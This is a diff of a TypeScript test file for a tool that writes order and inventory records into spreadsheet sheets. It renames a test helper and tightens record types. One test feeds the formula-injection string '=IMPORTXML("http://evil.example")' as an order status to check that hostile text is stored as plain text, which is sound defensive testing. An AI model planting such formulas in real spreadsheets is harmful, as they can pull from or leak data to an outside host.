@@ -2,19 +2,22 @@
 import { describe, expect, test } from 'vitest';
 import { operations } from '../../src/operations/registry.ts';
 import { decodeRecord } from '../../src/protocol/decode.ts';
-import type { AnyRecord, Privacy } from '../../src/protocol/fields.ts';
+import type { Privacy } from '../../src/protocol/fields.ts';
 import type { Tree } from '../../src/protocol/tree.ts';
 import type { Cell } from '../../src/tables/cells.ts';
+import type { DeclaredRecord } from '../../src/tables/table.ts';
 import { upsert } from '../../src/tables/upsert.ts';
 import { faultOf } from '../protocol/fault.ts';
-import { PaperBook } from '../support/in-memory-book.ts';
+import { InMemoryBook } from '../support/in-memory-book.ts';
 
 const { orders, inventory } = operations;
+type Order = DeclaredRecord<typeof orders>;
+type Stock = DeclaredRecord<typeof inventory>;
 const ALL: ReadonlySet<Privacy> = new Set();
 const NONE: ReadonlySet<Privacy> = new Set(['buyer', 'destination']);
 const THEN = Date.UTC(2025, 5, 16, 12);
 
-function order(wire: object): AnyRecord {
+function order(wire: object): Order {
   const base = {
     SellerID: 'A006',
     OrderDate: '6/15/2025 9:03:05',
@@ -24,7 +27,7 @@ function order(wire: object): AnyRecord {
   return decodeRecord({ ...base, ...wire } as Tree, orders.answer.record, { withheld: ALL });
 }
 
-function stock(ItemNumber: string, AvailableQuantity: number): AnyRecord {
+function stock(ItemNumber: string, AvailableQuantity: number): Stock {
   const wire = {
     ItemNumber,
     Condition: 1,
@@ -33,16 +36,16 @@ function stock(ItemNumber: string, AvailableQuantity: number): AnyRecord {
   return { sellerId: 'A006', ...decodeRecord(wire as Tree, inventory.answer.record, { withheld: ALL }) };
 }
 
-const save = (book: PaperBook, records: readonly AnyRecord[], asOf = THEN, withheld = ALL) =>
+const save = (book: InMemoryBook, records: readonly Order[], asOf = THEN, withheld = ALL) =>
   upsert(book, orders, records, withheld, asOf);
-const saveStock = (book: PaperBook, records: readonly AnyRecord[], asOf = THEN) =>
+const saveStock = (book: InMemoryBook, records: readonly Stock[], asOf = THEN) =>
   upsert(book, inventory, records, ALL, asOf);
 
 const line = { SellerPartNumber: 'A', OrderedQty: 2 };
 
 describe('a first pull', () => {
   test('makes the sheets of all tables, with typed cells', () => {
-    const book = new PaperBook('Asia/Tokyo');
+    const book = new InMemoryBook('Asia/Tokyo');
     const counts = save(book, [
       order({
         OrderNumber: 1,
@@ -73,7 +76,7 @@ describe('a first pull', () => {
   });
 
   test('case 41, case 43: identifiers and hostile texts are written as plain text', () => {
-    const book = new PaperBook();
+    const book = new InMemoryBook();
     save(book, [
       order({ OrderNumber: '00017', OrderStatusDescription: '=IMPORTXML("http://evil.example")' }),
     ]);
@@ -87,7 +90,7 @@ describe('a first pull', () => {
   });
 
   test('without consent no column of the buyer is made', () => {
-    const book = new PaperBook();
+    const book = new InMemoryBook();
     save(book, [order({ OrderNumber: 1, CustomerName: 'Zoe', ShipToStateCode: 'CA' })], THEN, NONE);
     const header = book.sheet('Orders').cells[0]!.join('|');
     expect(header).not.toMatch(/Customer|Ship to/);
@@ -99,7 +102,7 @@ describe('a second pull', () => {
   const records = Array.from({ length: 50 }, (_, index) => stock(`9SI${index}`, index));
 
   test('of the same writes nothing but when it was, in one block', () => {
-    const book = new PaperBook();
+    const book = new InMemoryBook();
     saveStock(book, records);
     const sheet = book.sheet('Inventory');
     const before = sheet.cells.map((row) => [...row]);
@@ -118,7 +121,7 @@ describe('a second pull', () => {
   });
 
   test('at the same instant writes nothing at all', () => {
-    const book = new PaperBook();
+    const book = new InMemoryBook();
     saveStock(book, records);
     book.sheet('Inventory').writes.length = 0;
     expect(saveStock(book, records)[0]).toMatchObject({ unchanged: 50, cells: 0 });
@@ -126,7 +129,7 @@ describe('a second pull', () => {
   });
 
   test('case 66: rows are found by identity, in whatever order they come', () => {
-    const book = new PaperBook();
+    const book = new InMemoryBook();
     saveStock(book, records);
     const changed = [...records]
       .reverse()
@@ -136,7 +139,7 @@ describe('a second pull', () => {
   });
 
   test('rows that do not come are left alone', () => {
-    const book = new PaperBook();
+    const book = new InMemoryBook();
     saveStock(book, records);
     expect(saveStock(book, records.slice(0, 2), THEN + 1)[0]).toMatchObject({ unchanged: 2, gone: 0 });
     expect(book.rows('Inventory')).toHaveLength(50);
@@ -145,7 +148,7 @@ describe('a second pull', () => {
 
 describe('what is the user’s', () => {
   test('columns, notes and sorting stay with their record', () => {
-    const book = new PaperBook();
+    const book = new InMemoryBook();
     saveStock(book, [stock('9SIA', 1), stock('9SIB', 2), stock('9SIC', 3)]);
     const sheet = book.sheet('Inventory');
     // The user puts a column first, types notes and sorts from last to first.
@@ -164,7 +167,7 @@ describe('what is the user’s', () => {
   });
 
   test('a total row between ours is never written, not even with its own values', () => {
-    const book = new PaperBook();
+    const book = new InMemoryBook();
     saveStock(book, [stock('9SIA', 1), stock('9SIB', 2)]);
     const sheet = book.sheet('Inventory');
     const total = sheet.cells[0]!.map((name) =>
@@ -179,7 +182,7 @@ describe('what is the user’s', () => {
   });
 
   test('a column that was deleted comes back at the right', () => {
-    const book = new PaperBook();
+    const book = new InMemoryBook();
     saveStock(book, [stock('9SIA', 1)]);
     const sheet = book.sheet('Inventory');
     const at = sheet.cells[0]!.indexOf('Condition');
@@ -195,7 +198,7 @@ describe('what is the user’s', () => {
     ['without its header', (cells: Cell[][]) => cells.slice(1)],
     ['with a title above its header', (cells: Cell[][]) => [['My stock'], ...cells]],
   ])('a sheet %s is refused before anything is written', (_, change) => {
-    const book = new PaperBook();
+    const book = new InMemoryBook();
     saveStock(book, [stock('9SIA', 1), stock('9SIB', 1)]);
     const sheet = book.sheet('Inventory');
     sheet.cells = change(sheet.cells);
@@ -206,7 +209,7 @@ describe('what is the user’s', () => {
   });
 
   test('a sheet without its key column is refused before anything is written', () => {
-    const book = new PaperBook();
+    const book = new InMemoryBook();
     saveStock(book, [stock('9SIA', 1)]);
     const sheet = book.sheet('Inventory');
     sheet.deleteColumn(sheet.cells[0]!.length);
@@ -219,7 +222,7 @@ describe('what is the user’s', () => {
 });
 
 test('case 96: data of the buyer that comes blank later does not overwrite what is there', () => {
-  const book = new PaperBook();
+  const book = new InMemoryBook();
   save(book, [order({ OrderNumber: 1, CustomerName: 'Zoe', ShipToCityName: 'Reno', OrderStatus: 0 })]);
   save(book, [order({ OrderNumber: 1, CustomerName: '', ShipToCityName: null, OrderStatus: 2 })], THEN + 1);
   expect(book.rows('Orders')).toMatchObject([
@@ -230,7 +233,7 @@ test('case 96: data of the buyer that comes blank later does not overwrite what 
 });
 
 test('case 87: an order that comes twice in a slice is written once, with its lines', () => {
-  const book = new PaperBook();
+  const book = new InMemoryBook();
   const twice = order({ OrderNumber: 1, ItemInfoList: [line, line] });
   const counts = save(book, [twice, order({ OrderNumber: 2, ItemInfoList: [line] }), twice]);
   expect(counts.map(({ table, added }) => [table, added])).toEqual([
@@ -242,7 +245,7 @@ test('case 87: an order that comes twice in a slice is written once, with its li
 });
 
 test('case 84: 250 rows are one write', () => {
-  const book = new PaperBook();
+  const book = new InMemoryBook();
   saveStock(
     book,
     Array.from({ length: 250 }, (_, index) => stock(`9SI${index}`, index)),
@@ -251,7 +254,7 @@ test('case 84: 250 rows are one write', () => {
 });
 
 test('what is counted as written is what was written', () => {
-  const book = new PaperBook();
+  const book = new InMemoryBook();
   const [counts] = saveStock(book, [stock('9SIA', 1), stock('9SIB', 2)]);
   const { writes } = book.sheet('Inventory');
   expect(counts!.cells).toBe(writes.reduce((sum, { values }) => sum + values.flat().length, 0));
@@ -261,7 +264,7 @@ describe('a workbook that is nearly full', () => {
   const many = Array.from({ length: 2000 }, (_, index) => stock(`9SI${index}`, 1));
 
   test('is refused before any change', () => {
-    const book = new PaperBook();
+    const book = new InMemoryBook();
     saveStock(book, many.slice(0, 1));
     book.others = 8_990_000;
     const before = JSON.stringify(book.sheet('Inventory').cells);
@@ -272,7 +275,7 @@ describe('a workbook that is nearly full', () => {
   });
 
   test('takes what there is room for, and changes of rows that are there', () => {
-    const book = new PaperBook();
+    const book = new InMemoryBook();
     book.others = 8_900_000;
     saveStock(book, many);
     book.others = 9_900_000;
